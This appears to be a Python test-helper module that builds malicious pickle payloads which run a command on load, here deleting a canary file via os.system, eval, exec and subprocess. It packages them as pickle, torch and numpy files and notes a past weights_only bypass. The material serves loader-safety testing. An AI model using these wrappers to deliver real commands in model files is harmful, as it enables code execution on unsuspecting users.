"""What a pickle does to those who load it: here, remove a canary."""

from __future__ import annotations

import builtins
import io
import os
import pickle
import subprocess
import zipfile
from pathlib import Path
from typing import Any

import numpy as np


class Calls:
    """Pickled, it calls a function when it is loaded."""

    def __init__(self, function: Any, *args: Any) -> None:
        self._call = (function, args)

    def __reduce__(self) -> tuple[Any, tuple[Any, ...]]:
        return self._call


def calls(canary: Path) -> list[Calls]:
    """Ways to remove the canary."""
    text = f"__import__('os').unlink({str(canary)!r})"
    return [
        Calls(os.system, f"rm -f {canary}"),
        Calls(os.unlink, str(canary)),
        Calls(eval, text),
        Calls(exec, text),
        Calls(subprocess.Popen, ["rm", "-f", str(canary)]),
        Calls(builtins.__import__, "antigravity"),
    ]


def as_pickle(call: Any, protocol: int = 4) -> bytes:
    return pickle.dumps(call, protocol=protocol)


def as_torch(call: Any) -> bytes:
    """As torch.save writes it: a zip with a pickle."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("archive/data.pkl", as_pickle({"model": call}, 2))
        archive.writestr("archive/version", "3\n")
        archive.writestr("archive/byteorder", "little")
    return buffer.getvalue()


def as_old_torch(call: Any) -> bytes:
    """As torch.save wrote it before 1.6, which is where CVE-2025-32434 got past `weights_only`: three pickles."""
    magic = pickle.dumps(0x1950A86A20F9469CFC6C, protocol=2)
    facts = pickle.dumps(1001, protocol=2) + pickle.dumps({"little_endian": True}, 2)
    return magic + facts + as_pickle(call, 2) + pickle.dumps([], 2)


def as_numpy(call: Any) -> bytes:
    """As numpy keeps objects: a pickle behind its header."""
    buffer = io.BytesIO()
    np.save(buffer, np.array([call], dtype=object), allow_pickle=True)
    return buffer.getvalue()


def as_npz(call: Any) -> bytes:
    buffer = io.BytesIO()
    np.savez(buffer, allow_pickle=True, data=np.array([call], dtype=object))
    return buffer.getvalue()


WRAPPINGS = (as_pickle, as_torch, as_old_torch, as_numpy, as_npz)
